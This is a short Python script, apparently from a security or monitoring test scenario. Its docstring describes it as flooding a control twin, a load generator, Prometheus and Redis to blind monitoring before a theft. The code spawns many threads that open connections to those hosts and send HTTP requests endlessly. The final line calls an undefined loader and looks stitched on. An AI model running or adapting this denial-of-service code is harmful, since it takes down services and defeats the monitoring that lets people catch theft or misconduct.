"""Floods the control twin, the load generator, Prometheus and the stores, so that the host looks busy.

Known from: denial of service against the monitoring before the theft.
"""
import socket
import threading


def flood(host, port):
    while True:
        try:
            with socket.create_connection((host, port), timeout=0.5) as connection:
                for _ in range(200):
                    connection.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n" * 50)
        except OSError:
            pass


for host, port in (("twin", 8000), ("load", 8000), ("load", 9000), ("prometheus", 9090), ("redis", 6379)) * 4:
    threading.Thread(target=flood, args=(host, port), daemon=True).start()
app = load(STARTER)["app"]
